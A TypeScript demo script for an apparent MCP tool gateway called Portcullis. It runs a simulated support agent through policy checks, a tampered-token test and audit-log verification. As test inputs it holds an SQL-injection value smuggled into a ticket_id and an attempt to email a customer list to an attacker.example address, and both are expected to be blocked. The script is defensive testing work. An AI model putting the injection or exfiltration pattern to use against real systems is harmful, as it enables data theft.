import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { stringify } from 'yaml';
import { AUDIT_FILE_NAME, verifyAuditLog } from '../audit/index.js';
import { issueToken, loadOrCreateSigningKey } from '../auth/index.js';
import { parseConfig } from '../config/load.js';
import { Gateway } from '../gateway/gateway.js';
import { startHttpGateway } from '../serve/http.js';
import { demoConfig } from './config.js';

interface Step {
  what: string;
  tool: string;
  decision: string;
  code: string;
  ms: number;
  note: string;
}

/**
 * The customer-support story, played by a real SDK Client over Streamable HTTP
 * with a short-lived token, against real stdio MCP servers behind the gateway.
 * Returns the report text and whether every step went as the policy says.
 */
export async function runDemo(options: { dataDir?: string; out?: (line: string) => void } = {}): Promise<{ ok: boolean; auditPath: string }> {
  const out = options.out ?? ((line: string) => process.stdout.write(line + '\n'));
  const dataDir = options.dataDir ?? (await mkdtemp(join(tmpdir(), 'portcullis-demo-')));
  const loaded = parseConfig(stringify(demoConfig()), 'embedded demo config');
  const started = performance.now();
  const gateway = await Gateway.start({ config: loaded.config, dataDir });
  const http = await startHttpGateway({ gateway, loaded, dataDir, host: '127.0.0.1', port: 0 });
  const startMs = performance.now() - started;
  const key = await loadOrCreateSigningKey(dataDir);
  const token = await issueToken(key, { identity: 'support-agent-v1', ttlSeconds: 300, audience: loaded.config.tokens.audience, issuer: loaded.config.tokens.issuer });

  out('Portcullis demo: a support agent works a ticket through the gateway');
  out(`  gateway ${http.url} (started in ${startMs.toFixed(0)} ms), servers: crm, email (stdio)`);
  out('  identity support-agent-v1: allowed read_crm_ticket, send_reply_email, refund_request, account_deletion;');
  out('  denied *_database_write, billing_*; approval on refund_request, account_deletion; replies only to @example.com\n');

  const client = new Client({ name: 'support-agent-v1', version: '1.0.0' });
  await client.connect(new StreamableHTTPClientTransport(http.url, { requestInit: { headers: { Authorization: `Bearer ${token}` } } }));
  const steps: Step[] = [];
  let ok = true;
  const expect = async (what: string, tool: string, args: Record<string, unknown>, expected: string) => {
    const t0 = performance.now();
    let decision = 'allow';
    let code = 'ALLOWED';
    let note = '';
    try {
      const result = await client.callTool({ name: tool, arguments: args });
      const text = (result.content as { type: string; text?: string }[]).find((c) => c.type === 'text')?.text ?? '';
      note = text.split('\n')[0].slice(0, 70);
    } catch (error) {
      const message = (error as Error).message.replace(/^MCP error -?\d+: /, '');
      code = message.split(':')[0];
      decision = code === 'APPROVAL_REQUIRED' ? 'hold' : 'deny';
      note = message.slice(code.length + 2, code.length + 2 + 70);
    }
    if (code !== expected) ok = false;
    steps.push({ what, tool, decision, code, ms: performance.now() - t0, note });
  };

  const listed = await client.listTools();
  const names = listed.tools.map((t) => t.name);
  out(`1. tools/list shows ${names.length} tools: ${names.join(', ')}`);
  const hiddenOk = !names.some((n) => n.includes('billing_update') || n.includes('customer_database_write'));
  out(`   billing_update and customer_database_write are ${hiddenOk ? 'hidden' : 'VISIBLE (policy failure)'}\n`);
  ok &&= hiddenOk;

  await expect('read the customer ticket', 'crm__read_crm_ticket', { ticket_id: 'T-1001' }, 'ALLOWED');
  await expect('reply to the customer', 'email__send_reply_email', { to: 'dana.whitfield@example.com', subject: 'Your double charge', body: 'We are on it.' }, 'ALLOWED');
  await expect('change the billing plan (hidden tool)', 'crm__billing_update', { customer_id: 'C-2001', plan: 'pro' }, 'TOOL_NOT_ALLOWED');
  await expect('write the customer database', 'crm__customer_database_write', { table: 'customers', row: { id: 'C-2001' } }, 'TOOL_NOT_ALLOWED');
  await expect('SQL-style injection in an argument', 'crm__read_crm_ticket', { ticket_id: "T-1001' OR '1'='1" }, 'INVALID_ARGUMENTS');
  await expect('email someone outside example.com', 'email__send_reply_email', { to: 'audit-team@attacker.example', subject: 'Customer list', body: '...' }, 'ARGUMENT_CONSTRAINT');
  await expect('refund $49.00', 'crm__refund_request', { ticket_id: 'T-1001', amount_cents: 4900, reason: 'double charge' }, 'APPROVAL_REQUIRED');

  const width = Math.max(...steps.map((s) => s.what.length));
  steps.forEach((s, i) =>
    out(`${String(i + 2).padStart(2)}. ${s.what.padEnd(width)}  ${s.tool.padEnd(30)} ${s.decision.toUpperCase().padEnd(5)} ${s.code.padEnd(19)} ${s.ms.toFixed(1).padStart(6)} ms  ${s.note}`),
  );

  const forged = token.slice(0, -4) + (token.endsWith('AAAA') ? 'BBBB' : 'AAAA');
  const stolen = await fetch(http.url, {
    method: 'POST',
    headers: { Authorization: `Bearer ${forged}`, 'Content-Type': 'application/json', Accept: 'application/json, text/event-stream' },
    body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-11-25', capabilities: {}, clientInfo: { name: 'x', version: '0' } } }),
  });
  const forgedOk = stolen.status === 401;
  ok &&= forgedOk;
  out(`\n${steps.length + 2}. a tampered token is refused: HTTP ${stolen.status} ${stolen.headers.get('www-authenticate') ?? ''}`);

  await client.close();
  await http.close();
  await gateway.close();
  const auditPath = join(dataDir, AUDIT_FILE_NAME);
  const verdict = await verifyAuditLog(auditPath);
  ok &&= verdict.ok;
  out(`\nAudit log: ${auditPath}`);
  out(verdict.ok ? `  chain intact: ${verdict.count} records (check it yourself: portcullis audit verify --data ${dataDir})` : `  CHAIN BROKEN at record ${verdict.seq}: ${verdict.reason}`);
  out(ok ? '\nEvery step was decided as the policy says.' : '\nSOME STEPS DID NOT MATCH THE POLICY: see above.');
  return { ok, auditPath };
}
